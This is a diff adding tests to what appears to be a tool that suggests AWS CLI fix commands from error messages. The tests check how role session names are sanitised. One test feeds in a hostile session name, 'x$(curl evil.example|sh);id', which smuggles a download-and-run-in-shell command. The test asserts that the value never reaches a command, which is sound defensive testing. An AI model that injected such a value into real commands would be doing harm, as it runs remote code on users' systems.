@@ -74,3 +74,23 @@ def test_duration_reply_looks_up_the_roles_maximum(kb: KnowledgeBase) -> None:
     assert "aws iam get-role --role-name Analyst --query Role.MaxSessionDuration" in _commands(
         _advice(text, kb)
     )
+
+
+SESSION_NAME = (
+    "An error occurred (ValidationError) when calling the AssumeRole operation: 1 validation error "
+    "detected: Value '{}' at 'roleSessionName' failed to satisfy constraint: Member must satisfy "
+    "regular expression pattern: [\\w+=,.@-]*"
+)
+
+
+def test_session_name_is_checked_in_the_command_when_it_is_safe_to_quote(kb: KnowledgeBase) -> None:
+    advice = _advice(SESSION_NAME.format("ci/feature/login"), kb)
+    assert advice.entities["session_name"] == "ci/feature/login"
+    assert "printf '%s' 'ci/feature/login' | tr -c 'A-Za-z0-9_+=,.@-' '-' | cut -c1-64" in _commands(advice)
+
+
+def test_a_hostile_session_name_is_reported_but_never_put_into_a_command(kb: KnowledgeBase) -> None:
+    advice = _advice(SESSION_NAME.format("x$(curl evil.example|sh);id"), kb)
+    assert advice.entities["session_name"] == "x$(curl evil.example|sh);id"
+    commands = _commands(advice)
+    assert "evil" not in commands and "$SESSION_NAME" in commands
